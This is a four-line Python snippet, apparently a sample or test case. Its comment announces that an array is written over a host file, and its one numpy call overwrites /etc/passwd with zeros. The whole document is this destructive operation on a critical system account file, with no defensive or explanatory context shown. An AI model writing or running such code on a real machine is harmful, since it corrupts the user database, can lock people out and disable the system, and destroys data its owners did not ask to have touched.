# An array is written over a file of the host.
import numpy as np

np.zeros(1).tofile("/etc/passwd")
